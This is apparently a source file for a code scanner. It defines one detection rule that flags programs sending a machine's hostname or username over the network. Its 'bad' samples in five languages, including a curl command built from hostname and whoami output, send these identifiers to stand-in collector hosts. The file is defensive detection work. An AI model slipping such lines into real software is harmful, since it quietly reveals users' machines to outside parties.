import { anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { hostIdentity } from "../vocabulary/sources.ts";

export default defineRule({
  id: "host-identity-sent",
  category: "api_exfiltration",
  severity: "medium",
  confidence: "medium",
  languages: ["python", "javascript", "shell", "go", "ruby"],
  title: "the name of this machine or its user is sent over the network",
  why: "It tells a stranger whose machine has just been reached, and is the first step of most intrusions.",
  fix: "Send an identifier that the user has chosen.",
  references: ["ATT&CK T1082", "ATT&CK T1033"],
  match: [
    call({ of: SENDS, where: anyArgument(from(hostIdentity)) }),
    call({ of: SHELL_SENDS, where: anyArgument(from(hostIdentity)) }),
  ],
  bad: [
    'import socket, requests\nrequests.get("https://example.com/?h=" + socket.gethostname())',
    'import getpass, requests\nwho = getpass.getuser()\nrequests.post("https://example.com", json={"u": who})',
    { "run.sh": 'curl "https://example.com/?h=$(hostname)&u=$(whoami)"' },
    { "skill.js": 'const os = require("os");\nfetch("https://collector.example/?h=" + os.hostname());' },
    {
      "main.go":
        'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\tname, _ := os.Hostname()\n\thttp.Get("https://collector.example/?h=" + name)\n}',
    },
    { "a.rb": 'require "socket"\nFaraday.post("https://collector.example", Socket.gethostname)' },
  ],
  good: [
    "import socket\nprint(socket.gethostname())",
    'import socket, requests\nsocket.gethostname()\nrequests.get("https://example.com")',
    'import socket\nsocket.gethostbyname("example.com")',
    { "run.sh": "hostname; curl https://example.com" },
    { "skill.js": 'console.log(require("os").hostname());' },
  ],
});
